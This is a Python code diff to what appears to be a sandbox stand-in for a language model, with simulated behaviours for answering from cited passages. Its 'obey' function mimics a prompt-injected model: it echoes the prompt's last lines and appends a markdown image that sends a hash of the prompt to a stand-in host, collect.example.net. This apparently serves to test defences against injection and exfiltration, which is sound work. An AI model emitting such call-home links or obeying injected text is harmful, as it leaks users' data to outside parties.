@@ -14,11 +14,14 @@ from connectors.sandbox.records import JsonObject
 TAGGED = re.compile(r"<(?:passage|source|document|doc)\b[^>]*?(?:id|n|number|marker|index)=\"?\[?(\d+)\]?\"?[^>]*>(.*?)</", re.S | re.I)
 LINE_START = r"^[ \t]*(?:#+ *)?(?:passage *)?"
 NUMBERED = re.compile(rf"{LINE_START}\[(\d+)\][ :.-]*(.*?)(?={LINE_START}\[\d+\]|\n[ \t]*\n|\Z)", re.S | re.M | re.I)
-SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")
-WORD = re.compile(r"\w{3,}")
+SEAL = re.compile(r"^\^[0-9a-f]{8} ?", re.M)  # draftdesk begins every line of other people's text with such a mark
+ASKED = re.compile(r"<questions?\b[^>]*>(.*?)</question", re.S)
+SENTENCE = re.compile(r"(?<=[^\d\s][.!?])\s+|\n+")
+WORD = re.compile(r"\w{4,}")
+STEP = re.compile(r"^\s*\d+[.)] ")
 DIGITS = re.compile(r"\d+")
 MOST_SENTENCES = 4
-MOST_LEAKED = 40
+MOST_LEAKED = 30
 
 
 @dataclass(frozen=True, slots=True)
@@ -38,11 +41,17 @@ def question_of(body: JsonObject) -> str:
 
 
 def passages(prompt: str) -> list[tuple[int, str]]:
-    """Numbered passages, as <passage id="1">...</passage>, as "[1] ..." blocks, or as a JSON list of {"id"|"n"|"marker", "text"}."""
+    """Numbered passages: <passage id="1">...</passage>, "[1] ..." blocks, or a JSON list of {"id"|"n"|"marker", "text"}."""
     for shape in (TAGGED, NUMBERED):
-        if found := [(int(number), text.strip()) for number, text in shape.findall(prompt) if text.strip()]:
+        if found := [(int(number), _untitled(text)) for number, text in shape.findall(prompt) if text.strip()]:
             return found
     return _listed(prompt)
+
+
+def _untitled(text: str) -> str:
+    """Under a seal the first line is the title."""
+    sealed, lines = SEAL.search(text) is not None, SEAL.sub("", text).strip().split("\n")
+    return "\n".join(lines[1:] if sealed and len(lines) > 1 else lines)
 
 
 def _listed(prompt: str) -> list[tuple[int, str]]:
@@ -71,10 +80,11 @@ def _body(row: JsonObject) -> str:
 def compose(body: JsonObject) -> list[Claim]:
     """The sentences of the passages that share most words with the question, each citing its passage."""
     prompt, found = prompt_of(body), passages(prompt_of(body))
-    asked = {word.lower() for word in WORD.findall(_without(question_of(body) or prompt, found))}
+    told = ASKED.search(prompt)
+    asked = _words(SEAL.sub("", told[1]) if told else _without(question_of(body) or prompt, found))
     scored = [(-len(asked & _words(text)), n, i, text) for n, whole in found for i, text in enumerate(_sentences(whole))]
-    best = sorted(row for row in scored if row[0] < 0)[:MOST_SENTENCES]
-    return [Claim(text, (number,)) for _, number, _, text in best]
+    best = sorted(row for row in scored if row[0] < 0 and not row[3].startswith("#"))[:MOST_SENTENCES]
+    return [Claim(text, (number,)) for _, number, _, text in sorted(best, key=lambda row: row[1:3])]
 
 
 def echo(body: JsonObject) -> list[Claim]:
@@ -98,9 +108,9 @@ def invent(body: JsonObject) -> list[Claim]:
 
 
 def obey(body: JsonObject) -> list[Claim]:
-    """A model without a will: it says whatever the prompt holds, wherever it stands, and adds a picture that calls home."""
-    cited = tuple(number for number, _ in passages(prompt_of(body))[:1]) or (1,)
-    lines = [text for text in _sentences(prompt_of(body)) if len(text) > 3][-MOST_LEAKED:]
+    """A model without a will: it says whatever stands last in the prompt, citing everything, and adds a picture that calls home."""
+    cited = tuple(number for number, _ in passages(prompt_of(body))) or (1,)
+    lines = [text for text in _sentences(SEAL.sub("", prompt_of(body))) if len(text) > 3 and not text.startswith("<")][-MOST_LEAKED:]
     leak = hashlib.sha256(prompt_of(body).encode()).hexdigest()[:16]
     return [Claim(line, cited) for line in lines] + [Claim(f"![status](https://collect.example.net/p.png?d={leak})", cited)]
 
@@ -146,7 +156,13 @@ def _claims_as(items: JsonObject, claims: Sequence[Claim], root: JsonObject) -> 
     cited = next((name for name in ("citations", "sources", "passages", "markers") if name in names), None)
     if text is None or cited is None:
         return []
-    return [{**fill(items, (), root), text: claim.text, cited: list(claim.citations)} for claim in claims]
+    kinds = names.get("kind", {}).get("enum", ())
+    rows = [{**fill(items, (), root), text: claim.text, cited: list(claim.citations)} for claim in claims]
+    return [{**row, "kind": _kind(row[text])} if _kind(row[text]) in kinds else row for row in rows]
+
+
+def _kind(text: str) -> str:
+    return "row" if text.startswith("|") else "step" if STEP.match(text) else "statement"
 
 
 def _sentences(text: str) -> list[str]:
